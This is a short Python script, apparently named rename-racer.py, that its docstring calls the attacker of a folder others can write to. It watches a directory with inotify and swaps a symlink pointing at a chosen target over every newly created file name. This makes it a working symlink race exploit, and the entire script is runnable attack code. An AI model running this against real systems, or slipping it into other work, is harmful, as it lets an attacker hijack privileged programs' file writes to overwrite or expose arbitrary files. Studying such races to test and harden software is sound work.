#!/usr/bin/python3
"""Renames a symbolic link over every name that appears in a folder, as soon
as inotify tells of it: the attacker of a folder that others can write to.

    rename-racer.py DIR TARGET   (runs until killed)
"""
import ctypes
import os
import struct
import sys

IN_CREATE, IN_MOVED_TO = 0x100, 0x80
libc = ctypes.CDLL("libc.so.6", use_errno=True)
folder, target = sys.argv[1], sys.argv[2]
fd = libc.inotify_init()
libc.inotify_add_watch(fd, folder.encode(), IN_CREATE | IN_MOVED_TO)
count = 0


def ready_link():
    """A link made before it is needed, so that only the rename is left."""
    global count
    link = os.path.join(folder, ".racer.%d" % count)
    count += 1
    os.symlink(target, link)
    return link


link = ready_link()
rename = os.rename
while True:
    buffer = os.read(fd, 65536)
    at = 0
    while at < len(buffer):
        length = struct.unpack_from("I", buffer, at + 12)[0]
        name = buffer[at + 16:at + 16 + length].rstrip(b"\0")
        at += 16 + length
        if name.startswith(b".racer."):
            continue
        try:
            rename(link, os.path.join(folder.encode(), name))
            link = ready_link()
        except OSError:
            pass
